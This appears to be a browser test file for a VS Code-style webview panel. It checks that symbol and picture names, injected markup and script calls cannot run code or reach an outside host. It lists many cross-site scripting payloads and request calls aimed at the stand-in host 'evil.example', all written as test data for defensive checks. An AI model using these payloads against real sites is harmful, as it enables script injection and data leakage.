/**
 * Attempts to break out of the panel's page: texts that are markup, and, as if one of them had
 * become markup, every way that a page has to run a script or to ask another machine.
 */
import { describe, expect, it } from 'vitest';
import { noBrowser } from '../browser';
import { panelOpener } from './openPanel';
import { card, picture, readSymbol, square, state } from './states';

const EVIL = 'https://evil.example';

const TRAPS = [
  `"><script>window.caught = 1</script>`,
  `</script><script src=${EVIL}/a.js></script>`,
  `<img src=${EVIL}/a.png onerror="window.caught = 2">`,
  `<svg onload="window.caught = 3"><image href="${EVIL}/a.svg"/></svg>`,
  `<style>@import url(${EVIL}/a.css); * { background: url(${EVIL}/b.png) }</style>`,
  `<base href="${EVIL}/"><form action="${EVIL}/"><button autofocus>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<link rel="prefetch" href="${EVIL}/a"><link rel="dns-prefetch" href="${EVIL}">`,
  `<iframe srcdoc="<script>parent.caught = 4</script>"></iframe>`,
  `javascript:window.caught=5//`,
  `![p](${EVIL}/p.png) [r](command:workbench.action.quit)`,
  `{{constructor.constructor('window.caught = 6')()}} \${window.caught = 7}`,
  '\u202e<img src=x onerror=window.caught=8>\u0000',
];

/** What a script in the page could try; each is as markup or as a call. */
const MARKUP = [
  // Where a page may not go VS Code says, in which test/e2e/untrusted.e2e.ts tries it.
  ...TRAPS.filter((trap) => !trap.includes('refresh')),
  `<video src="${EVIL}/v.mp4" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<object data="${EVIL}/o"></object><embed src="${EVIL}/e">`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<div style="background: url(${EVIL}/style.png)">x</div>`,
  `<link rel="stylesheet" href="${EVIL}/s.css"><link rel="preload" as="image" href="${EVIL}/p.png">`,
  `<input type="image" src="${EVIL}/i.png"><picture><source srcset="${EVIL}/set.png"><img></picture>`,
];
/** As text, compiled in the page after the attempt to inject it has returned. */
const CALLS = [
  `fetch('${EVIL}/f', { mode: 'no-cors' }).catch(() => {})`,
  `navigator.sendBeacon('${EVIL}/b', 'x')`,
  `new WebSocket('wss://evil.example/')`,
  `new EventSource('${EVIL}/e')`,
  `{ const r = new XMLHttpRequest(); r.open('GET', '${EVIL}/x'); r.send(); }`,
  `new Image().src = '${EVIL}/i.png'`,
  `import('${EVIL}/m.js').catch(() => {})`,
  `new Worker('${EVIL}/w.js')`,
  `new Worker(URL.createObjectURL(new Blob(['fetch("${EVIL}/blob")'])))`,
  `new FontFace('f', 'url(${EVIL}/f.woff2)').load().catch(() => {})`,
  `setTimeout('window.caught = 9')`,
  `document.body.setAttribute('onclick', 'window.caught = 10'), document.body.click()`,
  `document.head.append(Object.assign(document.createElement('script'), { text: 'window.caught = 11' }))`,
  `document.head.append(Object.assign(document.createElement('script'), { src: '${EVIL}/s.js' }))`,
  `document.body.append(Object.assign(document.createElement('a'), { href: 'javascript:window.caught=12', id: 'js' })), document.getElementById('js').click()`,
  `document.body.append(Object.assign(document.createElement('form'), { action: '${EVIL}/form', id: 'f' })), document.getElementById('f').submit()`,
];

describe.skipIf(noBrowser)('out of the panel', () => {
  const open = panelOpener();

  const caught = async ({ page }: Awaited<ReturnType<typeof open>>) =>
    page.evaluate(() => (window as { caught?: number }).caught);
  /** Requests that leave the page for the other machine; the security policy stops others. */
  async function listen(panel: Awaited<ReturnType<typeof open>>): Promise<string[]> {
    const asked: string[] = [];
    await panel.page.route(`${EVIL}/**`, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.caught = 99' });
    });
    return asked;
  }

  it('no text of a symbol, a picture or an error leads', async () => {
    const panel = await open(
      state({
        symbols: TRAPS.map((trap) => card(trap)),
        pictures: TRAPS.map((trap) => picture([readSymbol(trap, square(1, 1, 9))], { name: trap })),
      }),
    );
    const asked = await listen(panel);
    expect(await panel.page.locator('.text-content').allTextContents()).toEqual(expect.arrayContaining([TRAPS[0]]));
    await panel.page.locator('[role="tab"]').nth(1).click();
    expect([asked, await caught(panel), panel.errors]).toEqual([[], undefined, []]);
    const links = await panel.page.locator('a[href], form, iframe, base').count();
    expect(links).toBe(0);
  });

  it.each([...MARKUP.map((text) => ['markup', text]), ...CALLS.map((text) => ['call', text])])(
    'no %s leads that got into the page: %s',
    async (sort, text) => {
      const panel = await open(state({ symbols: [card('x')] }));
      const asked = await listen(panel);
      if (sort === 'markup')
        await panel.page.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), text);
      else await panel.page.evaluate(text).catch(() => undefined);
      await panel.page.evaluate(() => new Promise((done) => setTimeout(done, 50)));
      expect([asked, await caught(panel)]).toEqual([[], undefined]);
    },
  );
});
